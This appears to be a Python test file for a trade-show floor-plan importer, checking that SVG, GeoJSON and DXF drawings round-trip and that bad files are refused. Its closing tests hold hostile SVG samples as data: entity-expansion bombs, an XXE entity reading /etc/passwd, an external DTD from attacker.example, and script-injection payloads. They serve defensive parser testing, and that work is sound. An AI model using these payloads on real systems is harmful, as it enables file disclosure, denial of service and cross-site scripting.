"""Floors as files and back: what we write we read back the same, and other programs' ways of writing are understood."""

import io
import json
from uuid import UUID, uuid4

import ezdxf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from expo.floor.drawing.states import BoothState, FeatureState, GroundState, State
from expo.floor.exports.geojson import floor_geojson
from expo.floor.exports.svg import floor_svg
from expo.floor.geometry.outlines import tidy
from expo.floor.imports.fitting import OUTSIDE, OVER, TWICE, Known, ground_in, laid
from expo.floor.imports.laying import Laying
from expo.floor.imports.laying import first_laying as first_laying_of
from expo.floor.imports.opening import opened
from expo.floor.imports.reading import read_floor
from expo.floor.imports.shapes import NotAFloor, NothingInIt, NotPlain, ReadFile
from expo.floor.places.rules import Place
from tests.make.floors import booth, box, feature, floor
from tests.make.programme import text

HALL = UUID(int=7)
KINTEX = Place(37.6687, 126.7454, 23.5)


def first_laying(read: ReadFile, here: Known, place: Place | None) -> Laying:
    ground = ground_in(here)
    return first_laying_of(read, ground[1].outline if ground else None, place)


def known(*states: State, wide: float = 60, deep: float = 40) -> Known:
    ground = GroundState(hall=HALL, outline=tidy(box(0, 0, wide, deep)))
    return Known(HALL, {uuid4(): one for one in (ground, *states)}, {})


@st.composite
def floors(draw):
    cells = draw(st.lists(st.tuples(st.integers(0, 9), st.integers(0, 5)), unique=True, max_size=12))
    mm = st.integers(600, 5000)
    made = []
    for at, (x, y) in enumerate(cells):
        shape = box(6 * x, 6 * y, draw(mm) / 1000, draw(mm) / 1000)
        made.append(booth(f"A-{at + 1}", shape, kind=draw(st.sampled_from(("shell", "raw", "other")))))
    doors = [feature("restroom", (draw(st.integers(0, 60)) * 1.0, 0.0), stepped=draw(st.booleans()))]
    return floor("E1", 60, 40, booths=made, features=doors)


@settings(max_examples=60, deadline=None)
@given(shown=floors(), place=st.sampled_from((None, KINTEX, Place(-33.9, 151.2, 271.25), Place(64.1, -21.9, 0.0))))
def test_what_is_written_as_geojson_is_read_back_the_same(shown, place):
    read = read_floor("geojson", floor_geojson(shown, place))
    here = Known(HALL, {}, {})
    rows = laid(read, first_laying(read, here, place), here)
    states = [row.change.after for row in rows if row.change]
    assert [row.why for row in rows if row.outcome == "refused"] == []
    assert next(one.outline for one in states if isinstance(one, GroundState)) == tidy(shown.outline)
    there = {one.number: (one.kind, one.polygon) for one in states if isinstance(one, BoothState)}
    assert there == {one.number: (one.kind, one.polygon) for one in shown.booths}
    features = sorted((one.kind, one.shape, one.stepped) for one in states if isinstance(one, FeatureState))
    assert features == sorted((one.kind, one.shape, one.stepped) for one in shown.features)


@settings(max_examples=25, deadline=None)
@given(shown=floors())
def test_what_is_written_as_svg_is_read_back_to_the_centimetre(shown):
    read = read_floor("svg", floor_svg(shown, "Hall"))
    rows = laid(read, first_laying(read, Known(HALL, {}, {}), None), Known(HALL, {}, {}))
    there = {row.number: row.change.after for row in rows if row.change and isinstance(row.change.after, BoothState)}
    assert there.keys() == {one.number for one in shown.booths}
    for one in shown.booths:
        for (x, y), (px, py) in zip(there[one.number].polygon, one.polygon, strict=True):
            assert abs(x - px) + abs(y - py) < 0.05
        assert there[one.number].kind == one.kind


def test_a_file_of_ours_brings_back_what_things_are_called_and_nothing_twice():
    named = text({"ko": '1번 "출입구" <a&b>', "ar": "البوابة"})
    things = [
        feature("entrance", (15.0, 20.0), name=named),
        feature("stage", *box(2, 2, 6, 4), stage="open-a"),
        feature("aisle", *box(10, 2, 3, 4), slope=0.05, stepped=True),
    ]
    shown = floor("E1", booths=[booth("A-1", box(20, 2, 3, 3))], features=things)
    for kind, content in (("svg", floor_svg(shown, "Hall")), ("geojson", floor_geojson(shown, None))):
        read = read_floor(kind, content)
        rows = laid(read, first_laying(read, Known(HALL, {}, {}), None), Known(HALL, {}, {}))
        states = [row.change.after for row in rows if row.change]
        found = {one.kind: (one.name, one.stepped, one.slope) for one in states if isinstance(one, FeatureState)}
        assert found == {one.kind: (one.name, one.stepped, one.slope) for one in things}, kind
        assert [one.stage for one in read.shapes if one.kind == "stage"] == ["open-a"], kind


INKSCAPE = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="420mm" height="297mm" viewBox="0 0 420 297">
<defs id="defs2"><path id="stand" d="m 0,0 h 30 v 30 h -30 z"/></defs>
<g inkscape:label="Booths" inkscape:groupmode="layer" id="layer1" transform="translate(10,20)">
 <g id="g12" transform="matrix(0,1,-1,0,100,0)">
  <rect id="rect814" inkscape:label="#B-101" x="0" y="10" width="30" height="30" style="fill:#eee"/>
  <g transform="scale(2)"><rect id="rect815" x="20" y="5" width="15" height="15"/>
   <text x="27" y="12"><tspan id="tspan9">B-102</tspan></text></g>
 </g>
 <use xlink:href="#stand" id="B-103" x="120" y="0"/>
 <path id="path77-3" inkscape:label="B-104" d="M 200,0 C 220,0 230,10 230,30 L 200,30 Z"/>
 <path id="path78" inkscape:label="B-105" d="M 240,0 H 270 V 30"/>
</g></svg>"""


def test_a_drawing_of_inkscape_is_understood_with_its_layers_transforms_and_labels():
    read = read_floor("svg", INKSCAPE)
    by_number = {one.number: one for one in read.shapes}
    assert set(by_number) == {"B-101", "B-102", "B-103", "B-104"}
    assert {one.layer for one in read.shapes} == {"Booths"}
    assert tidy(by_number["B-101"].outline) == tidy([(70, 20), (100, 20), (100, 50), (70, 50)])
    assert tidy(by_number["B-102"].outline) == tidy([(70, 60), (100, 60), (100, 90), (70, 90)])
    assert tidy(by_number["B-103"].outline) == tidy(box(130, 20, 30, 30))
    assert len(by_number["B-104"].outline) > 8, "a curve is short lines"
    assert [one.what for one in read.skipped] == ["B-105"]


EAST, NORTH = 935_000.0, 1_960_000.0
CORNERS = [[EAST, NORTH], [EAST + 6, NORTH], [EAST + 6, NORTH + 3], [EAST, NORTH + 3]]
QGIS = {
    "type": "FeatureCollection",
    "name": "stands",
    "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::5179"}},
    "features": [
        {
            "type": "Feature",
            "properties": {"fid": 1, "booth_no": "c-1", "type": "raw"},
            "geometry": {
                "type": "MultiPolygon",
                "coordinates": [
                    [
                        [
                            [935000.0, 1960000.0],
                            [935006.0, 1960000.0],
                            [935006.0, 1960003.0],
                            [935000.0, 1960003.0],
                            [935000.0, 1960000.0],
                        ]
                    ]
                ],
            },
        },
        {
            "type": "Feature",
            "properties": {"fid": 2, "booth_no": None},
            "geometry": {
                "type": "Polygon",
                "coordinates": [
                    [[935010.0, 1960000.0], [935020.0, 1960000.0], [935020.0, 1960010.0], [935010.0, 1960000.0]],
                    [[935011.0, 1960001.0], [935012.0, 1960001.0], [935012.0, 1960002.0], [935011.0, 1960001.0]],
                ],
            },
        },
        {"type": "Feature", "properties": None, "geometry": None},
    ],
}


def test_a_file_of_qgis_in_metres_of_a_country_is_laid_into_the_corner_of_the_hall():
    read = read_floor("geojson", json.dumps(QGIS).encode())
    assert (read.degrees, len(read.shapes), len(read.skipped)) == (False, 1, 2)
    here = known()
    (row,) = laid(read, first_laying(read, here, None), here)
    assert row.change is not None
    after = row.change.after
    assert isinstance(after, BoothState)
    assert (after.number, after.kind, after.polygon) == ("C-1", "raw", tidy(box(0, 0, 6, 3)))


def drawn_by_autocad() -> bytes:
    drawing = ezdxf.new("R2013", setup=False)
    drawing.units = ezdxf.units.MM
    stand = drawing.blocks.new("STAND")
    stand.add_lwpolyline([(0, 0), (3000, 0), (3000, 3000), (0, 3000)], close=True, dxfattribs={"layer": "BOOTH"})
    stand.add_attdef("NO", (1000, 1000))
    space = drawing.modelspace()
    for at in range(3):
        ref = space.add_blockref("STAND", (10_000 + 3000 * at, 5000), dxfattribs={"layer": "BOOTH"})
        ref.add_attrib("NO", f"D-{101 + at}", (11_000 + 3000 * at, 6000))
    space.add_lwpolyline(
        [(30_000, 5000), (36_000, 5000), (36_000, 8000), (30_000, 8000)], close=True, dxfattribs={"layer": "BOOTH"}
    )
    space.add_mtext("{\\fArial|b0;D-104}", dxfattribs={"insert": (33_000, 6500), "layer": "TEXT"})
    space.add_lwpolyline([(0, 0), (1000, 0), (1000, 1000)], dxfattribs={"layer": "BOOTH"})
    space.add_line((0, 0), (1, 1))
    written = io.StringIO()
    drawing.write(written)
    return written.getvalue().encode()


async def test_a_drawing_of_autocad_has_blocks_attributes_and_millimetres_and_is_read_behind_limits():
    read = await opened("dxf", drawn_by_autocad())
    assert (read.metres, {one.layer for one in read.shapes}) == (0.001, {"BOOTH"})
    assert {one.number for one in read.shapes} == {"D-101", "D-102", "D-103", "D-104"}
    here = known()
    rows = laid(read, first_laying(read, here, None), here)
    assert [row.outcome for row in rows] == ["new"] * 4
    first = next(row.change.after for row in rows if row.number == "D-101" and row.change)
    assert isinstance(first, BoothState)
    assert first.polygon == tidy(box(0, 0, 3, 3))
    assert len(read.skipped) == 1


HOSTILE = [
    b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>',
    b"<!DOCTYPE svg [<!ENTITY a 'x\" onload=\"alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg' id=\"&a;\"/>",
    b'<!DOCTYPE svg [<!ENTITY a "'
    + b"a" * 900
    + b'">]><svg xmlns="http://www.w3.org/2000/svg"><text>'
    + b"&a;" * 9_000,
    b"<html><script>alert(1)</script></html>",
    b"\x00\x01\x02",
    b"<svg",
]


@pytest.mark.parametrize("content", HOSTILE)
async def test_a_hostile_drawing_is_refused(content: bytes):
    entangled = b"<!ENTITY" in content
    with pytest.raises(NotPlain if entangled else NotAFloor):
        await opened("svg", content)


async def test_what_a_drawing_would_run_or_fetch_is_nothing_to_us_and_words_stay_words():
    content = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>
<image href="https://attacker.example/x.png"/><style>@import url(https://attacker.example/x.css)</style>
<g id="&lt;img src=x onerror=alert(1)&gt;"><rect id="E-1" width="3" height="3" onclick="alert(1)"/></g>
<foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>"""
    read = await opened("svg", content)
    assert [(one.number, len(one.outline)) for one in read.shapes] == [("E-1", 4)]


async def test_a_drawing_that_never_ends_and_one_with_nothing_in_it_are_refused():
    itself = b'<defs><g id="a"><use href="#a"/><use href="#a"/></g></defs><use href="#a"/>'
    around = b'<svg xmlns="http://www.w3.org/2000/svg">' + itself + b"</svg>"
    with pytest.raises((NotAFloor, NothingInIt)):
        await opened("svg", around)
    with pytest.raises(NothingInIt):
        await opened("geojson", b'{"type":"FeatureCollection","features":[]}')
    with pytest.raises(NotAFloor):
        await opened("geojson", b"[" * 100_000)
    with pytest.raises(NotAFloor):
        await opened("dxf", b"not a drawing")


def test_every_shape_that_is_not_taken_says_why():
    crossed = [(30, 10), (33, 13), (33, 10), (30, 13)]
    shapes = [*(box(x, y, 3, 3) for x, y in ((2, 2), (20, 2), (58, 2), (21, 3))), crossed, box(40, 2, 3, 3)]
    numbers = ["A-1", "A-2", "A-3", "A-4", "A-5", "A-2"]
    features = []
    for number, shape in zip(numbers, shapes, strict=True):
        ring = [[x, -y] for x, y in (*shape, shape[0])]
        said, drawn = {"layer": "booth", "number": number}, {"type": "Polygon", "coordinates": [ring]}
        features.append({"type": "Feature", "properties": said, "geometry": drawn})
    content = {"type": "FeatureCollection", "units": "metres", "features": features}
    read = read_floor("geojson", json.dumps(content).encode())
    there = BoothState(hall=HALL, number="A-1", polygon=tidy(box(2, 2, 2, 3)))
    here = known(there)
    rows = laid(read, first_laying(read, here, None), here)
    assert [row.outcome for row in rows] == ["changed", "new", "refused", "refused", "refused", "refused"]
    assert [row.why for row in rows[2:]][:2] == [OUTSIDE, OVER]
    assert rows[4].why.startswith("An outline needs at least three corners")
    assert rows[5].why == TWICE
